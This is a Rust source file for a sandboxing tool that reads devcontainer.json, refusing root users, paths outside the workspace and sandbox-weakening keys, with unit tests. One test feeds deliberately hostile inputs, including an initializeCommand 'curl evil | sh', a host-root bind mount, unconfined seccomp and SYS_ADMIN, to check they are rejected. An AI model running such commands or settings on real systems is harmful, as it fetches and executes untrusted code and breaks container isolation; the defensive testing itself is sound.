//! The workspace's own image and settings from `.devcontainer/devcontainer.json` (JSON with
//! comments and trailing commas), as far as kennel can honour them without weakening the
//! sandbox.
//!
//! Honoured: `image`, `build` (`dockerfile`, `context`, `args`, `target`) and the legacy top-level
//! `dockerFile`/`context`; `containerEnv`/`remoteEnv` (→ [`crate::spec::EnvSpec::container_env`]);
//! `remoteUser`/`containerUser` when numeric and not root; `onCreateCommand`,
//! `updateContentCommand`, `postCreateCommand`, `postStartCommand` (run in the sandbox as its user
//! after creation). Everything else that would change the sandbox is listed in **one** warning with
//! the reason it is not applied ([`DevContainer::warning`]); nothing is applied or dropped
//! silently. IDE-only keys (`name`, `customizations`, …) have no effect on the sandbox and are
//! ignored.
//!
//! The file lives in the workspace, which the agent can write: every path it names must stay
//! inside the workspace (a build context of `~` would copy the host's home into the image), and it
//! only takes effect when a person runs `kennel up`.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::error::SpecError;

/// Where the file is looked up, relative to the workspace.
pub const DEVCONTAINER_JSON: &str = ".devcontainer/devcontainer.json";

pub use kennel_api::spec::{BuildSpec, LifecycleCommand};

/// What kennel takes from a `devcontainer.json`.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct DevContainer {
    /// The file read.
    pub path: PathBuf,
    /// `image`.
    pub image: Option<String>,
    /// `build` / legacy `dockerFile`.
    pub build: Option<BuildSpec>,
    /// `containerEnv` then `remoteEnv` (a later key wins), proxy variables excluded.
    pub container_env: Vec<(String, String)>,
    /// `remoteUser`, else `containerUser`, as numeric `uid:gid` (never root).
    pub user: Option<String>,
    /// `remoteUser`/`containerUser` given as a user name (not `root`): resolved to its uid from
    /// the image's `/etc/passwd` when the environment is created (a uid of 0 is refused then).
    pub user_name: Option<String>,
    /// Lifecycle commands in the order the devcontainer spec runs them.
    pub lifecycle: Vec<LifecycleCommand>,
    /// Keys not applied, each with the reason.
    pub not_applied: Vec<(String, String)>,
    /// `dockerComposeFile`, resolved against the file's directory (services imported by
    /// [`crate::compose`]).
    pub compose_file: Option<PathBuf>,
    /// `service`: the compose service that is the dev container (it becomes the sandbox).
    pub service: Option<String>,
}

impl DevContainer {
    /// The one warning listing every key kennel did not apply and why; `None` if there are none.
    pub fn warning(&self) -> Option<String> {
        if self.not_applied.is_empty() {
            return None;
        }
        let mut w = format!(
            "{}: kennel does not apply these keys (the sandbox stays as hardened as without them):",
            self.path.display()
        );
        for (key, why) in &self.not_applied {
            w.push_str(&format!("\n  - {key}: {why}"));
        }
        Some(w)
    }
}

/// Gid used when `remoteUser` gives only a uid: group `dev`, which shares files with the host.
const DEFAULT_GID: u32 = 2000;

/// Keys that have no effect on the sandbox (IDE settings and the like); ignored without a word.
const IDE_ONLY: [&str; 10] = [
    "$schema",
    "name",
    "customizations",
    "portsAttributes",
    "otherPortsAttributes",
    "shutdownAction",
    "waitFor",
    "userEnvProbe",
    "updateRemoteUserUID",
    "overrideCommand",
];

/// Why a key is not applied.
fn reason(key: &str) -> Option<&'static str> {
    Some(match key {
        "privileged" => {
            "would give the sandbox every capability and the host's devices; the sandbox runs with none"
        }
        "capAdd" => "the sandbox runs with every capability dropped",
        "securityOpt" => "could turn off seccomp or no-new-privileges; kennel always keeps both",
        "runArgs" => {
            "arbitrary `docker run` flags (e.g. --network host, -v /:/host) would bypass the isolation"
        }
        "forwardPorts" | "appPort" => {
            "would publish sandbox ports on the host; the sandbox has no route to or from the host"
        }
        "mounts" | "workspaceMount" => {
            "kennel mounts only the workspace (at /workspace) and the [credentials] of kennel.toml"
        }
        "initializeCommand" => {
            "runs on the host, from a file the agent can edit; kennel never runs workspace commands on the host"
        }
        "init" => "kennel always runs an init process in the sandbox",
        "features" => {
            "Dev Container Features are not supported; install the tools in the Dockerfile instead"
        }
        "runServices" => {
            "kennel starts every service of the compose file (except those with profiles)"
        }
        "workspaceFolder" => "the workspace is always at /workspace",
        "postAttachCommand" => "kennel has no attach step; run it with `kennel exec`",
        "hostRequirements" => "resource limits come from [resources] in kennel.toml",
        "build.options" => {
            "`docker build` flags (e.g. --network host) would let the build bypass the allowlist"
        }
        "build.cacheFrom" => "not supported (no registry access for the build cache)",
        _ => return None,
    })
}

/// Names of the proxy variables, which belong to kennel (compared case-insensitively).
pub const PROXY_VARS: [&str; 3] = ["HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY"];

/// Whether `name` is one of kennel's proxy variables (any case).
pub fn is_proxy_var(name: &str) -> bool {
    PROXY_VARS.iter().any(|p| p.eq_ignore_ascii_case(name))
}

/// Reads `<workspace>/.devcontainer/devcontainer.json` if it exists. `user_set` says whether
/// kennel.toml sets `user` (it then wins and the file's user is not checked).
pub fn load(workspace: &Path, user_set: bool) -> Result<Option<DevContainer>, SpecError> {
    let path = workspace.join(DEVCONTAINER_JSON);
    if !path.is_file() {
        return Ok(None);
    }
    let text = std::fs::read_to_string(&path).map_err(|source| SpecError::Read {
        path: path.clone(),
        source,
    })?;
    parse_str(&text, &path, workspace, user_set).map(Some)
}

/// Source text and its key positions, for errors that name line and column.
struct Src<'a> {
    path: &'a Path,
    text: &'a str,
    /// Byte offset of each top-level key and of each key inside a top-level object
    /// (`build.args`), from the syntax tree.
    offsets: BTreeMap<String, usize>,
}

impl Src<'_> {
    fn line_col(&self, offset: usize) -> (u32, u32) {
        let offset = offset.min(self.text.len());
        let before = &self.text[..offset];
        let line = before.matches('\n').count() + 1;
        let col = before.rfind('\n').map_or(offset, |nl| offset - nl - 1) + 1;
        (
            u32::try_from(line).unwrap_or(u32::MAX),
            u32::try_from(col).unwrap_or(u32::MAX),
        )
    }

    fn err(&self, key: &str, message: impl Into<String>) -> SpecError {
        // Nested keys below the second level are located at their nearest known parent.
        let mut probe = key;
        let offset = loop {
            if let Some(o) = self.offsets.get(probe) {
                break *o;
            }
            match probe.rsplit_once('.') {
                Some((parent, _)) => probe = parent,
                None => break 0,
            }
        };
        let (line, column) = self.line_col(offset);
        SpecError::Invalid {
            path: self.path.to_path_buf(),
            line,
            column,
            key: Some(key.to_string()),
            message: message.into(),
        }
    }
}

pub(crate) fn parse_options() -> jsonc_parser::ParseOptions {
    // JSONC as VS Code reads devcontainer.json: comments and trailing commas, nothing looser.
    jsonc_parser::ParseOptions {
        allow_comments: true,
        allow_trailing_commas: true,
        allow_loose_object_property_names: false,
        allow_missing_commas: false,
        allow_single_quoted_strings: false,
        allow_hexadecimal_numbers: false,
        allow_unary_plus_numbers: false,
        allow_bare_decimal_point_numbers: false,
        allow_non_finite_numbers: false,
        allow_extended_string_escapes: false,
    }
}

/// Parses devcontainer.json text read from `path`; relative paths resolve against the file's
/// directory and must stay inside `workspace`.
pub fn parse_str(
    text: &str,
    path: &Path,
    workspace: &Path,
    user_set: bool,
) -> Result<DevContainer, SpecError> {
    let syntax = |e: jsonc_parser::errors::ParseError| SpecError::Invalid {
        path: path.to_path_buf(),
        line: u32::try_from(e.line_display()).unwrap_or(u32::MAX),
        column: u32::try_from(e.column_display()).unwrap_or(u32::MAX),
        key: None,
        message: format!("{} (devcontainer.json is JSON with comments)", e.kind()),
    };
    let ast =
        jsonc_parser::parse_to_ast(text, &Default::default(), &parse_options()).map_err(syntax)?;
    let mut offsets = BTreeMap::new();
    if let Some(jsonc_parser::ast::Value::Object(obj)) = &ast.value {
        for prop in &obj.properties {
            let key = prop.name.as_str().to_string();
            offsets.insert(key.clone(), prop.range.start);
            if let jsonc_parser::ast::Value::Object(inner) = &prop.value {
                for p in &inner.properties {
                    offsets.insert(format!("{key}.{}", p.name.as_str()), p.range.start);
                }
            }
        }
    }
    let src = Src {
        path,
        text,
        offsets,
    };
    let value: Value =
        jsonc_parser::parse_to_serde_value(text, &parse_options()).map_err(syntax)?;
    let Value::Object(top) = value else {
        return Err(src.err("", "the top level must be an object { … }"));
    };
    let dir = path.parent().unwrap_or(workspace);
    let mut dc = DevContainer {
        path: path.to_path_buf(),
        ..Default::default()
    };

    let string = |key: &str, v: &Value| -> Result<String, SpecError> {
        v.as_str()
            .map(str::to_string)
            .ok_or_else(|| src.err(key, "must be a string"))
    };

    let mut env: BTreeMap<String, String> = BTreeMap::new();
    let mut remote_user = None;
    let mut container_user = None;
    let mut legacy_dockerfile = None;
    let mut legacy_context = None;
    let mut build = None;
    let mut lifecycle: BTreeMap<usize, Vec<LifecycleCommand>> = BTreeMap::new();
    for (key, v) in &top {
        match key.as_str() {
            "image" => {
                let image = string(key, v)?;
                crate::spec::check_image(&image).map_err(|m| src.err(key, m))?;
                dc.image = Some(image);
            }
            "build" => build = Some(v),
            "dockerFile" => legacy_dockerfile = Some(string(key, v)?),
            "context" => legacy_context = Some(string(key, v)?),
            "containerEnv" | "remoteEnv" => {
                let Value::Object(map) = v else {
                    return Err(src.err(key, "must be an object of NAME: \"value\""));
                };
                for (name, val) in map {
                    let k = format!("{key}.{name}");
                    let val = match val {
                        // remoteEnv: null means "not set".
                        Value::Null => continue,
                        Value::String(s) => s.clone(),
                        _ => return Err(src.err(&k, "must be a string")),
                    };
                    check_env_name(name).map_err(|m| src.err(&k, m))?;
                    if is_proxy_var(name) {
                        dc.not_applied.push((
                            k,
                            "the proxy variables are kennel's (they point at the environment's proxy)".into(),
                        ));
                        continue;
                    }
                    // containerEnv comes first in the loop only by key order; remoteEnv is what
                    // tools see, so it wins either way.
                    if key == "containerEnv" && env.contains_key(name) {
                        continue;
                    }
                    env.insert(name.clone(), val);
                }
            }
            "dockerComposeFile" => {
                let files: Vec<String> = match v {
                    Value::String(f) => vec![f.clone()],
                    Value::Array(a) => {
                        a.iter().map(|f| string(key, f)).collect::<Result<_, _>>()?
                    }
                    _ => return Err(src.err(key, "must be a string or an array of strings")),
                };
                match files.as_slice() {
                    [] => {}
                    [f] => dc.compose_file = Some(crate::spec::normalize(&dir.join(f))),
                    _ => {
                        return Err(src.err(
                            key,
                            "kennel imports one compose file; merge them into one (or set `services` in kennel.toml)",
                        ));
                    }
                }
            }
            "service" => dc.service = Some(string(key, v)?),
            "remoteUser" => remote_user = Some(string(key, v)?),
            "containerUser" => container_user = Some(string(key, v)?),
            "onCreateCommand"
            | "updateContentCommand"
            | "postCreateCommand"
            | "postStartCommand" => {
                let order = match key.as_str() {
                    "onCreateCommand" => 0,
                    "updateContentCommand" => 1,
                    "postCreateCommand" => 2,
                    _ => 3,
                };
                lifecycle.insert(order, lifecycle_commands(&src, key, v)?);
            }
            k if IDE_ONLY.contains(&k) => {}
            k => match reason(k) {
                Some(why) => dc.not_applied.push((k.to_string(), why.to_string())),
                None => dc.not_applied.push((
                    k.to_string(),
                    "unknown to kennel (not a devcontainer.json key it supports)".to_string(),
                )),
            },
        }
    }
    dc.container_env = env.into_iter().collect();
    dc.lifecycle = lifecycle.into_values().flatten().collect();

    if let Some(b) = build {
        let Value::Object(b) = b else {
            return Err(src.err(
                "build",
                "must be an object with \"dockerfile\", \"context\", \"args\", \"target\"",
            ));
        };
        let mut dockerfile = None;
        let mut context = None;
        let mut args = Vec::new();
        let mut target = None;
        for (k, v) in b {
            let key = format!("build.{k}");
            match k.as_str() {
                "dockerfile" | "dockerFile" => dockerfile = Some(string(&key, v)?),
                "context" => context = Some(string(&key, v)?),
                "target" => target = Some(string(&key, v)?),
                "args" => {
                    let Value::Object(map) = v else {
                        return Err(src.err(&key, "must be an object of NAME: \"value\""));
                    };
                    for (name, val) in map {
                        let k = format!("{key}.{name}");
                        let Value::String(val) = val else {
                            return Err(src.err(&k, "must be a string"));
                        };
                        if is_proxy_var(name) {
                            return Err(src.err(
                                &k,
                                "the proxy build arguments are kennel's: builds go through the environment's proxy",
                            ));
                        }
                        args.push((name.clone(), val.clone()));
                    }
                }
                _ => match reason(&key) {
                    Some(why) => dc.not_applied.push((key.clone(), why.to_string())),
                    None => dc.not_applied.push((
                        key.clone(),
                        "unknown to kennel (not a devcontainer.json key it supports)".to_string(),
                    )),
                },
            }
        }
        let dockerfile = dockerfile
            .or(legacy_dockerfile.take())
            .ok_or_else(|| src.err("build", "needs \"dockerfile\" (relative to .devcontainer/)"))?;
        let context = context.or(legacy_context.take());
        dc.build = Some(resolve_build(
            &src,
            "build",
            dir,
            workspace,
            &dockerfile,
            context.as_deref(),
            args,
            target,
        )?);
    } else if let Some(dockerfile) = legacy_dockerfile {
        dc.build = Some(resolve_build(
            &src,
            "dockerFile",
            dir,
            workspace,
            &dockerfile,
            legacy_context.as_deref(),
            Vec::new(),
            None,
        )?);
    } else if legacy_context.is_some() {
        return Err(src.err("context", "only means something with \"dockerFile\""));
    }
    if dc.build.is_some() && dc.image.is_some() {
        return Err(src.err(
            "image",
            "both \"image\" and a build are given; keep one (the build, to use the Dockerfile)",
        ));
    }

    // remoteUser is the user tools run as; it defaults to containerUser. kennel has one user.
    let user = remote_user
        .map(|u| ("remoteUser", u))
        .or(container_user.map(|u| ("containerUser", u)));
    if let Some((key, u)) = user {
        if user_set {
            dc.not_applied.push((
                key.to_string(),
                "`user` in kennel.toml wins over devcontainer.json".into(),
            ));
        } else {
            if is_user_name(&u) {
                if u == "root" {
                    return Err(src.err(key, root_refusal()));
                }
                dc.user_name = Some(u);
            } else {
                dc.user = Some(numeric_user(&u).map_err(|m| src.err(key, m))?);
            }
        }
    }
    Ok(dc)
}

fn check_env_name(name: &str) -> Result<(), String> {
    let mut chars = name.chars();
    let ok_first = chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_');
    if ok_first && chars.all(|c| c.is_ascii_alphanumeric() || c == '_') {
        Ok(())
    } else {
        Err("is not a valid variable name (letters, digits, '_', not starting with a digit)".into())
    }
}

/// A user name as `useradd` accepts it (no `:group` part; those must be numeric).
fn is_user_name(u: &str) -> bool {
    let mut chars = u.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_lowercase() || c == '_')
        && u.len() <= 32
        && chars.all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '_' | '-'))
}

/// The uid of `name` in the text of an `/etc/passwd`; refuses root (uid 0) and names that are
/// not there. Used on the image the sandbox will run, after it is built.
pub fn uid_from_passwd(passwd: &str, name: &str) -> Result<u32, String> {
    let line = passwd
        .lines()
        .find(|l| l.split(':').next() == Some(name))
        .ok_or_else(|| {
            format!("user {name:?} is not in the image's /etc/passwd; use a numeric uid instead")
        })?;
    let uid = line
        .split(':')
        .nth(2)
        .and_then(|u| u.parse::<u32>().ok())
        .ok_or_else(|| format!("the image's /etc/passwd has no numeric uid for {name:?}"))?;
    if uid == 0 {
        return Err(format!(
            "user {name:?} is uid 0 in the image: {}",
            root_refusal()
        ));
    }
    Ok(uid)
}

/// `uid` or `uid:gid`, numeric and not root (names are handled by [`uid_from_passwd`]).
fn numeric_user(u: &str) -> Result<String, String> {
    let (uid, gid) = match u.split_once(':') {
        Some((a, b)) => (a, Some(b)),
        None => (u, None),
    };
    if uid == "root" || gid == Some("root") {
        return Err(root_refusal());
    }
    let parse = |s: &str| s.parse::<u32>().ok();
    let Some(uid_n) = parse(uid) else {
        return Err(format!(
            "{u:?}: expected a user name, a uid, or uid:gid with both numeric (e.g. \"1001\" or \"1001:2000\")"
        ));
    };
    let gid_n = match gid {
        Some(g) => parse(g).ok_or_else(|| format!("{u:?}: the group must be a number too"))?,
        None => DEFAULT_GID,
    };
    if uid_n == 0 || gid_n == 0 {
        return Err(root_refusal());
    }
    Ok(format!("{uid_n}:{gid_n}"))
}

fn root_refusal() -> String {
    "kennel never runs the sandbox as root (uid or gid 0): root in a container is one kernel bug \
     away from root on the host, and could write everything the image holds. Use a non-root user, \
     e.g. \"1001\""
        .into()
}

fn lifecycle_commands(
    src: &Src<'_>,
    key: &str,
    v: &Value,
) -> Result<Vec<LifecycleCommand>, SpecError> {
    let one = |k: &str, v: &Value| -> Result<Option<LifecycleCommand>, SpecError> {
        let argv = match v {
            Value::String(s) if s.trim().is_empty() => return Ok(None),
            Value::String(s) => vec!["/bin/sh".to_string(), "-c".to_string(), s.clone()],
            Value::Array(items) => {
                let argv = items
                    .iter()
                    .map(|i| i.as_str().map(str::to_string))
                    .collect::<Option<Vec<_>>>()
                    .ok_or_else(|| src.err(k, "an array command must hold strings only"))?;
                if argv.is_empty() {
                    return Ok(None);
                }
                argv
            }
            _ => {
                return Err(src.err(
                    k,
                    "must be a string (run with sh -c), an array (argv) or an object of those",
                ));
            }
        };
        Ok(Some(LifecycleCommand {
            key: k.to_string(),
            argv,
        }))
    };
    match v {
        Value::Object(map) => {
            let mut out = Vec::new();
            for (name, v) in map {
                let k = format!("{key}.{name}");
                if matches!(v, Value::Object(_)) {
                    return Err(src.err(&k, "must be a string or an array"));
                }
                out.extend(one(&k, v)?);
            }
            Ok(out)
        }
        Value::Null => Ok(Vec::new()),
        v => Ok(one(key, v)?.into_iter().collect()),
    }
}

/// Resolves and checks a build: Dockerfile and context relative to `dir`, both inside
/// `workspace` (lexically here; the daemon checks the canonical paths again), the Dockerfile a
/// file and the context a directory. The context defaults to the Dockerfile's directory.
#[allow(clippy::too_many_arguments)]
fn resolve_build(
    src: &Src<'_>,
    key: &str,
    dir: &Path,
    workspace: &Path,
    dockerfile: &str,
    context: Option<&str>,
    mut args: Vec<(String, String)>,
    target: Option<String>,
) -> Result<BuildSpec, SpecError> {
    let df = crate::spec::normalize(&dir.join(dockerfile));
    let ctx = match context {
        Some(c) => crate::spec::normalize(&dir.join(c)),
        None => df.parent().unwrap_or(dir).to_path_buf(),
    };
    args.sort();
    let spec = BuildSpec {
        context: ctx,
        dockerfile: df,
        args,
        target,
    };
    check_build(&spec, workspace).map_err(|m| src.err(key, m))?;
    Ok(spec)
}

/// Checks a build's paths: inside `workspace`, the Dockerfile an existing file, the context an
/// existing directory. Used by the spec loaders and again by the daemon on canonical paths.
pub fn check_build(b: &BuildSpec, workspace: &Path) -> Result<(), String> {
    for (what, p) in [("Dockerfile", &b.dockerfile), ("build context", &b.context)] {
        if !p.starts_with(workspace) {
            return Err(format!(
                "the {what} {} is outside the workspace {}; the file that names it can be edited by \
                 the agent, so kennel only builds from inside the workspace",
                p.display(),
                workspace.display()
            ));
        }
    }
    if !b.dockerfile.is_file() {
        return Err(format!(
            "Dockerfile {} does not exist",
            b.dockerfile.display()
        ));
    }
    if !b.context.is_dir() {
        return Err(format!(
            "build context {} is not a directory",
            b.context.display()
        ));
    }
    if let Some(t) = &b.target
        && (t.is_empty() || t.chars().any(|c| c.is_whitespace() || c.is_control()))
    {
        return Err(format!("target {t:?} is not a stage name"));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ws() -> tempfile::TempDir {
        let d = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir(d.path().join(".devcontainer")).expect("mkdir");
        std::fs::write(d.path().join(".devcontainer/Dockerfile"), "FROM x\n").expect("write");
        d
    }

    fn parse(ws: &Path, text: &str) -> Result<DevContainer, SpecError> {
        parse_str(text, &ws.join(DEVCONTAINER_JSON), ws, false)
    }

    #[test]
    fn comments_trailing_commas_build_env_user_and_commands() {
        let d = ws();
        let text = r#"{
            // the project's image
            "name": "demo",
            "build": {
                "dockerfile": "Dockerfile", /* relative to .devcontainer */
                "context": "..",
                "args": { "B": "2", "A": "1", },
                "target": "dev",
            },
            "containerEnv": { "FOO": "bar", "HTTP_PROXY": "http://tinyproxy:8888" },
            "remoteEnv": { "FOO": "remote", "UNSET": null },
            "remoteUser": "1001",
            "postCreateCommand": "npm ci",
            "postStartCommand": ["echo", "hi"],
            "onCreateCommand": { "a": "true", "b": ["echo", "b"] },
            "customizations": { "vscode": {} },
        }"#;
        let dc = parse(d.path(), text).expect("parse");
        let b = dc.build.clone().expect("build");
        assert_eq!(b.context, d.path());
        assert_eq!(b.dockerfile, d.path().join(".devcontainer/Dockerfile"));
        assert_eq!(
            b.args,
            vec![("A".into(), "1".into()), ("B".into(), "2".into())]
        );
        assert_eq!(b.target.as_deref(), Some("dev"));
        assert_eq!(dc.container_env, vec![("FOO".into(), "remote".into())]);
        assert_eq!(dc.user.as_deref(), Some("1001:2000"));
        let keys: Vec<&str> = dc.lifecycle.iter().map(|c| c.key.as_str()).collect();
        assert_eq!(
            keys,
            [
                "onCreateCommand.a",
                "onCreateCommand.b",
                "postCreateCommand",
                "postStartCommand"
            ]
        );
        assert_eq!(dc.lifecycle[2].argv, ["/bin/sh", "-c", "npm ci"]);
        assert_eq!(dc.lifecycle[3].argv, ["echo", "hi"]);
        // The proxy variable is listed, not silently dropped.
        let w = dc.warning().expect("warning");
        assert!(w.contains("containerEnv.HTTP_PROXY"), "{w}");
    }

    #[test]
    fn legacy_dockerfile_and_context() {
        let d = ws();
        let dc =
            parse(d.path(), r#"{"dockerFile": "Dockerfile", "context": ".."}"#).expect("parse");
        let b = dc.build.expect("build");
        assert_eq!(b.context, d.path());
        assert_eq!(b.dockerfile, d.path().join(".devcontainer/Dockerfile"));
        let dc = parse(d.path(), r#"{"dockerFile": "Dockerfile"}"#).expect("parse");
        assert_eq!(
            dc.build.expect("build").context,
            d.path().join(".devcontainer")
        );
    }

    #[test]
    fn weakening_keys_are_listed_in_one_warning_with_reasons() {
        let d = ws();
        let dc = parse(
            d.path(),
            r#"{"image": "img:1", "privileged": true, "capAdd": ["SYS_ADMIN"],
                "securityOpt": ["seccomp=unconfined"], "runArgs": ["--network=host"],
                "forwardPorts": [3000], "appPort": 8080, "mounts": ["source=/,target=/host,type=bind"],
                "init": true, "initializeCommand": "curl evil | sh", "features": {}, "someNewKey": 1}"#,
        )
        .expect("parse");
        assert_eq!(dc.image.as_deref(), Some("img:1"));
        let w = dc.warning().expect("warning");
        for k in [
            "privileged",
            "capAdd",
            "securityOpt",
            "runArgs",
            "forwardPorts",
            "appPort",
            "mounts",
            "init",
            "initializeCommand",
            "features",
            "someNewKey",
        ] {
            assert!(w.contains(&format!("  - {k}: ")), "{k} missing in {w}");
        }
        assert!(w.contains("capability"), "{w}");
        assert_eq!(w.matches("kennel does not apply").count(), 1);
    }

    #[test]
    fn root_users_are_refused_with_the_reason() {
        let d = ws();
        for u in ["root", "0", "0:0", "1001:0", "root:dev"] {
            let e = parse(d.path(), &format!("{{\n  \"remoteUser\": \"{u}\"\n}}"))
                .expect_err(u)
                .to_string();
            assert!(e.contains("never runs the sandbox as root"), "{u}: {e}");
            assert!(e.contains("devcontainer.json:2:3: key `remoteUser`"), "{e}");
        }
        // A name is resolved later, from the image.
        let dc = parse(d.path(), r#"{"containerUser": "vscode"}"#).expect("name");
        assert_eq!((dc.user, dc.user_name.as_deref()), (None, Some("vscode")));
        let e = parse(d.path(), r#"{"remoteUser": "vs code"}"#)
            .expect_err("bad")
            .to_string();
        assert!(e.contains("expected a user name"), "{e}");
        let pw = "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\nclaude:x:1001:1001::/home/claude:/bin/sh\n";
        assert_eq!(uid_from_passwd(pw, "claude"), Ok(1001));
        assert!(
            uid_from_passwd(pw, "toor")
                .expect_err("root")
                .contains("never runs the sandbox as root")
        );
        assert!(
            uid_from_passwd(pw, "nobody")
                .expect_err("missing")
                .contains("not in the image")
        );
        // kennel.toml's `user` wins: the file's user is not applied, and says so.
        let dc = parse_str(
            r#"{"remoteUser": "root"}"#,
            &d.path().join(DEVCONTAINER_JSON),
            d.path(),
            true,
        )
        .expect("overridden");
        assert_eq!(dc.user, None);
        assert!(dc.warning().expect("w").contains("remoteUser"));
    }

    #[test]
    fn spec_takes_the_devcontainer_image_and_kennel_toml_wins() {
        use crate::spec::{EnvSpec, SpecOverrides};
        let d = ws();
        std::fs::write(
            d.path().join(DEVCONTAINER_JSON),
            r#"{"build": {"dockerfile": "Dockerfile"}, "containerEnv": {"FOO": "bar"},
                "remoteUser": "1002:2000", "privileged": true, "postCreateCommand": "true"}"#,
        )
        .expect("write");
        let spec = EnvSpec::from_workspace(d.path(), &SpecOverrides::default()).expect("spec");
        assert!(spec.build.is_some());
        assert_eq!(spec.user, "1002:2000");
        assert_eq!(spec.env.container_env, vec![("FOO".into(), "bar".into())]);
        assert_eq!(spec.lifecycle.len(), 1);
        assert_eq!(spec.warnings.len(), 1, "{:?}", spec.warnings);
        let env = crate::hardening::sandbox_env(&spec);
        assert!(env.contains(&"FOO=bar".to_string()), "{env:?}");

        // --image replaces the build.
        let o = SpecOverrides {
            image: Some("other:1".into()),
            ..Default::default()
        };
        let spec = EnvSpec::from_workspace(d.path(), &o).expect("spec");
        assert_eq!((spec.build, spec.image.as_str()), (None, "other:1"));

        // kennel.toml's image and user win, and the warning says so.
        std::fs::write(
            d.path().join("kennel.toml"),
            "image = \"mine:1\"\nuser = \"1001:2000\"\n",
        )
        .expect("write");
        let spec = EnvSpec::from_workspace(d.path(), &SpecOverrides::default()).expect("spec");
        assert_eq!((spec.build, spec.image.as_str()), (None, "mine:1"));
        assert_eq!(spec.user, "1001:2000");
        assert!(
            spec.warnings[0].contains("  - build: kennel.toml sets the image"),
            "{:?}",
            spec.warnings
        );

        // kennel.toml [build].
        std::fs::write(
            d.path().join("kennel.toml"),
            "[build]\nargs = { V = \"1\" }\ntarget = \"dev\"\n",
        )
        .expect("write");
        let spec = EnvSpec::from_workspace(d.path(), &SpecOverrides::default()).expect("spec");
        let b = spec.build.expect("build");
        assert_eq!(b.dockerfile, d.path().join(".devcontainer/Dockerfile"));
        assert_eq!(b.context, d.path().join(".devcontainer"));
        assert_eq!(b.args, vec![("V".into(), "1".into())]);
        std::fs::write(
            d.path().join("kennel.toml"),
            "[build]\nargs = { HTTP_PROXY = \"x\" }\n",
        )
        .expect("write");
        let e = EnvSpec::from_workspace(d.path(), &SpecOverrides::default())
            .expect_err("proxy arg")
            .to_string();
        assert!(e.contains("kennel.toml:1:1: key `build.args`"), "{e}");
    }

    #[test]
    fn bad_json_names_line_and_column() {
        let d = ws();
        let e = parse(d.path(), "{\n  \"image\": \"a\",\n  \"build\" {}\n}")
            .expect_err("bad")
            .to_string();
        assert!(e.contains("devcontainer.json:3:"), "{e}");
        let e = parse(d.path(), "{\n  \"image\": 'a'\n}")
            .expect_err("single quotes")
            .to_string();
        assert!(e.contains("devcontainer.json:2:"), "{e}");
    }

    #[test]
    fn paths_outside_the_workspace_and_type_errors_are_refused() {
        let d = ws();
        let e = parse(
            d.path(),
            r#"{"build": {"dockerfile": "Dockerfile", "context": "../.."}}"#,
        )
        .expect_err("outside")
        .to_string();
        assert!(e.contains("outside the workspace"), "{e}");
        let e = parse(d.path(), r#"{"build": {"dockerfile": "Nope"}}"#)
            .expect_err("missing")
            .to_string();
        assert!(e.contains("does not exist"), "{e}");
        let e = parse(
            d.path(),
            "{\"build\": {\"dockerfile\": \"Dockerfile\",\n \"args\": {\"A\": 1}}}",
        )
        .expect_err("type")
        .to_string();
        assert!(e.contains("key `build.args.A`: must be a string"), "{e}");
        assert!(e.contains(":2:2:"), "{e}");
        let e = parse(
            d.path(),
            r#"{"image": "x", "build": {"dockerfile": "Dockerfile"}}"#,
        )
        .expect_err("both")
        .to_string();
        assert!(e.contains("keep one"), "{e}");
        let e = parse(d.path(), r#"{"containerEnv": {"1BAD": "x"}}"#)
            .expect_err("name")
            .to_string();
        assert!(e.contains("valid variable name"), "{e}");
    }
}
